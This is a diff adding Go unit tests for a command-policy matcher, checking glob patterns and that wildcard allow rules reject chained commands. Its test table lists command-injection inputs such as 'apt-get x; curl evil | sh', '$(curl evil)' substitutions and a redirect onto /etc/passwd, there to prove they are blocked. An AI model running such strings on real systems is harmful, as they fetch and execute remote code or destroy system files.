@@ -0,0 +1,85 @@
+package policy
+
+import "testing"
+
+func TestGlob(t *testing.T) {
+	tests := []struct {
+		pattern string
+		value   string
+		want    bool
+	}{
+		{"", "", true},
+		{"", "ls", false},
+		{"ls", "ls", true},
+		{"ls", "ls -la", false},
+		{"*", "", true},
+		{"*", "rm -rf /var/lib", true},
+		{"ls *", "ls -la /tmp", true},
+		{"ls *", "ls", false},
+		{"/usr/bin/*", "/usr/bin/apt-get install", true},
+		{"/usr/bin/*", "/usr/sbin/reboot", false},
+		{"*.sh", "/tmp/run.sh", true},
+		{"apt-get * install", "apt-get -y install", true},
+		{"foo-*", "foo-web", true},
+		{"foo-*", "bar-foo-web", false},
+		// characters special for regular expressions are matched literally
+		{"a.b", "axb", false},
+		{"a.b", "a.b", true},
+		{"echo (x)+", "echo (x)+", true},
+		{"[abc]", "a", false},
+	}
+	for _, tt := range tests {
+		if got := glob(tt.pattern, tt.value); got != tt.want {
+			t.Errorf("glob(%q, %q) = %v, want %v", tt.pattern, tt.value, got, tt.want)
+		}
+	}
+}
+
+func TestMatchAny(t *testing.T) {
+	tests := []struct {
+		patterns []string
+		value    string
+		want     bool
+	}{
+		{nil, "anything", true},
+		{[]string{"root"}, "root", true},
+		{[]string{"root"}, "ubuntu", false},
+		{[]string{"ubuntu", "sub*"}, "subutai", true},
+	}
+	for _, tt := range tests {
+		if got := matchAny(tt.patterns, tt.value); got != tt.want {
+			t.Errorf("matchAny(%q, %q) = %v, want %v", tt.patterns, tt.value, got, tt.want)
+		}
+	}
+}
+
+func TestRuleMatchShellMetacharacters(t *testing.T) {
+	tests := []struct {
+		action  string
+		command string
+		cmdline string
+		want    bool
+	}{
+		{"allow", "apt-get *", "apt-get install -y nginx", true},
+		// wildcard of allow rule can't be used to chain another command
+		{"allow", "apt-get *", "apt-get x; curl evil | sh", false},
+		{"allow", "apt-get *", "apt-get x && reboot", false},
+		{"allow", "apt-get *", "apt-get $(curl evil)", false},
+		{"allow", "apt-get *", "apt-get `curl evil`", false},
+		{"allow", "apt-get *", "apt-get x\nreboot", false},
+		{"allow", "apt-get *", "apt-get x > /etc/passwd", false},
+		{"allow", "apt-get *", "apt-get x \\\nreboot", false},
+		// metacharacters written in the pattern are permitted
+		{"allow", "ls * > /tmp/*", "ls -la > /tmp/list", true},
+		{"allow", "ls * > /tmp/*", "ls -la > /tmp/list; reboot", false},
+		// wildcard of deny rule matches anything, so chained commands are denied too
+		{"deny", "*reboot*", "apt-get x; reboot", true},
+		{"deny", "*reboot*", "apt-get x\nreboot", true},
+	}
+	for _, tt := range tests {
+		r := &rule{Action: tt.action, Command: []string{tt.command}}
+		if got := r.match(tt.cmdline, "root", "/", "host"); got != tt.want {
+			t.Errorf("%s rule %q match %q = %v, want %v", tt.action, tt.command, tt.cmdline, got, tt.want)
+		}
+	}
+}